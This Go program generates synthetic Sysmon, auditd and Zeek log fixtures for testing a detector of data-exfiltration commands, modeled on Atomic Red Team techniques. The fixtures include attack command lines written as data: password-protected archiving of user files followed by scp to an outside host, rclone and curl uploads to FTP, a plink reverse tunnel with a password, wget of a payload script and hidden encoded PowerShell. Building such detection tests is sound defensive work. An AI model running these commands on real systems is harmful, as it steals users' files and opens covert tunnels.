//go:build ignore

// gen writes the fixtures of this folder from the Atomic Red Team commands of T1048, T1048.003
// and T1560.001 (and the seed's own test list):
//
//	cd detect/exfilcmd && go run testdata/gen.go testdata
//
// fire.xml (Sysmon 1 as Splunk's XmlWinEventLog, host WIN-STAGE, 192.168.56.20): 7-Zip
// archiving the user's .txt files with a password (T1560.001 #4) then scp.exe of that archive
// 3 minutes later (a chain that names the archive), Compress-Archive (T1560.001), rclone copy
// to an FTP remote (T1048.003 #7), plink -P 80 -R (an SSH tunnel on the web port), and one
// Sysmon 3 connection from which the host's address is learned.
//
// quiet.xml (host WIN-QUIET): powershell -enc (the seed's risk 7), wget of a script (7),
// 7z x, zip without -r, ssh without forwarding, tar -tf, curl of a web page.
//
// late.xml (host WIN-LATE): 7z a, then scp.exe 20 minutes later: both commands fire, no chain.
//
// linux.audit.log (auditd, node lab-linux): the seed's test 5 as Atomic T1048 describes it:
// tar -czf /tmp/victim-files.tar.gz /tmp/victim-staging-area, then 20 s later curl
// --upload-file /tmp/victim-files.tar.gz ftp://127.0.0.1/ (a chain naming the archive); and
// tar -xzf (quiet).
//
// conn-chain.xml + conn-chain.conn.log (host WIN-CONN, 192.168.56.30): tar.exe -cf of the
// user's documents, then 4 minutes later a Zeek connection from 192.168.56.30 carrying 50 MiB
// to 203.0.113.9:443 (a chain through the connection), and a 200 KB connection (too small).
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/sluice-hunt/sluice/source/winevent"
	"github.com/sluice-hunt/sluice/synth"
)

var (
	t0  = time.Date(2026, 3, 4, 10, 0, 0, 0, time.UTC)
	cmd = synth.SysmonProc{GUID: "7C1E0000-0000-0000-0001-000000000002", PID: 4301, Image: `C:\Windows\System32\cmd.exe`, CommandLine: `"C:\Windows\system32\cmd.exe"`}
	n   = 0
)

func proc(host, image, cmdline string) synth.SysmonProc {
	n++
	return synth.SysmonProc{Computer: host, GUID: fmt.Sprintf("7C1E0000-0000-0000-0002-%012d", n), PID: 6000 + n, Image: image,
		CommandLine: cmdline, User: host + `\analyst`, ParentGUID: cmd.GUID, ParentPID: cmd.PID, ParentImage: cmd.Image,
		ParentCommandLine: cmd.CommandLine}
}

func at(sec int) time.Time { return t0.Add(time.Duration(sec) * time.Second) }

const ps = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`

func main() {
	dir := os.Args[1]
	const stage = "WIN-STAGE"
	sevenZip := proc(stage, `C:\Program Files\7-Zip\7z.exe`, `"C:\Program Files\7-Zip\7z.exe" a -tzip C:\Users\analyst\T1560.001-data.zip C:\Users\analyst\*.txt -pblue`)
	scp := proc(stage, `C:\Windows\System32\OpenSSH\scp.exe`, `scp.exe C:\Users\analyst\T1560.001-data.zip analyst@203.0.113.5:/tmp/`)
	compress := proc(stage, ps, `powershell.exe & {Compress-Archive -Path C:\Users\analyst\*.txt -DestinationPath C:\Users\analyst\T1560-data-ps.zip -Force}`)
	rclone := proc(stage, `C:\Users\Public\Downloads\rclone-v1.57.0-windows-amd64\rclone.exe`,
		`C:\Users\Public\Downloads\rclone-v1.57.0-windows-amd64\rclone.exe copy --max-age 2y C:\Users\Public\Downloads\exfil.zip ftpserver --bwlimit 2M -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12 -P --ftp-no-check-certificate`)
	plink := proc(stage, `C:\Users\analyst\Downloads\plink.exe`, `plink.exe -P 80 -R 127.0.0.3:4444:127.0.0.2:3389 tunnel@203.0.113.7 -pw s3cret`)
	write(filepath.Join(dir, "fire.xml"), []winevent.Record{
		synth.SysmonProcess(sevenZip, at(0)),
		synth.SysmonProcess(scp, at(180)),
		synth.SysmonConnect(scp, at(181), "tcp", "192.168.56.20", 50420, "203.0.113.5", 22),
		synth.SysmonProcess(compress, at(1800)),
		synth.SysmonProcess(rclone, at(3600)),
		synth.SysmonProcess(plink, at(5400)),
	})

	const quietHost = "WIN-QUIET"
	var quiet []winevent.Record
	for i, c := range [][2]string{
		{ps, `powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`},
		{`C:\ProgramData\chocolatey\bin\wget.exe`, `wget.exe http://203.0.113.5/payload.ps1`},
		{`C:\Program Files\7-Zip\7z.exe`, `7z.exe x C:\Users\analyst\Downloads\tools.zip -oC:\tools`},
		{`C:\Program Files\Git\usr\bin\zip.exe`, `zip.exe C:\temp\one.zip C:\temp\one.txt`},
		{`C:\Windows\System32\OpenSSH\ssh.exe`, `ssh.exe analyst@10.0.0.5`},
		{`C:\Windows\System32\tar.exe`, `tar.exe -tf C:\temp\backup.tar`},
		{`C:\Windows\System32\curl.exe`, `curl.exe -s https://www.example.com/`},
	} {
		quiet = append(quiet, synth.SysmonProcess(proc(quietHost, c[0], c[1]), at(60*i)))
	}
	write(filepath.Join(dir, "quiet.xml"), quiet)

	const late = "WIN-LATE"
	write(filepath.Join(dir, "late.xml"), []winevent.Record{
		synth.SysmonProcess(proc(late, `C:\Program Files\7-Zip\7z.exe`, `7z.exe a C:\Users\analyst\q3.7z C:\Users\analyst\Documents`), at(0)),
		synth.SysmonProcess(proc(late, `C:\Windows\System32\OpenSSH\scp.exe`, `scp.exe C:\Users\analyst\q3.7z analyst@203.0.113.5:/tmp/`), at(1200)),
	})

	var audit strings.Builder
	audit.WriteString(synth.AuditExec("lab-linux", at(0), 1201, 3301, 3300, 0, "/usr/bin/tar", "/root",
		[]string{"tar", "-czf", "/tmp/victim-files.tar.gz", "/tmp/victim-staging-area"}))
	audit.WriteString(synth.AuditExec("lab-linux", at(20), 1207, 3302, 3300, 0, "/usr/bin/curl", "/root",
		[]string{"curl", "--upload-file", "/tmp/victim-files.tar.gz", "ftp://127.0.0.1/"}))
	audit.WriteString(synth.AuditExec("lab-linux", at(3600), 1350, 3400, 3300, 0, "/usr/bin/tar", "/root",
		[]string{"tar", "-xzf", "/tmp/victim-files.tar.gz", "-C", "/tmp/restore dir"}))
	writeText(filepath.Join(dir, "linux.audit.log"), audit.String())

	const connHost = "WIN-CONN"
	tar := proc(connHost, `C:\Windows\System32\tar.exe`, `tar.exe -cf C:\Users\analyst\docs.tar C:\Users\analyst\Documents`)
	edge := proc(connHost, `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `"msedge.exe"`)
	write(filepath.Join(dir, "conn-chain.xml"), []winevent.Record{
		synth.SysmonConnect(edge, at(-600), "tcp", "192.168.56.30", 51000, "203.0.113.80", 443),
		synth.SysmonProcess(tar, at(0)),
	})
	var conn strings.Builder
	conn.WriteString("#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n#open\t2026-03-04-10-00-00\n" +
		"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents\n" +
		"#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]\n")
	row := func(ts time.Time, uid string, sport int, dst string, dport int, out, in int64) {
		fmt.Fprintf(&conn, "%d.000000\t%s\t192.168.56.30\t%d\t%s\t%d\ttcp\tssl\t95.000000\t%d\t%d\tSF\t-\t-\t0\tShADadFf\t%d\t%d\t%d\t%d\t-\n",
			ts.Unix(), uid, sport, dst, dport, out, in, out/1400, out+out/1400*40, in/1400+1, in+40)
	}
	row(at(60), "CsmallPOST0000001", 51010, "203.0.113.80", 443, 200_000, 5_000)
	row(at(240), "CbigUpload0000001", 51020, "203.0.113.9", 443, 52_428_800, 12_000)
	conn.WriteString("#close\t2026-03-04-11-00-00\n")
	writeText(filepath.Join(dir, "conn-chain.conn.log"), conn.String())
}

func write(path string, rs []winevent.Record) {
	var b strings.Builder
	for _, r := range rs {
		b.WriteString(synth.WinXML(r))
		b.WriteString("\n")
	}
	writeText(path, b.String())
}

func writeText(path, s string) {
	if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
		panic(err)
	}
	fmt.Fprintf(os.Stderr, "%s: %d lines\n", path, strings.Count(s, "\n"))
}
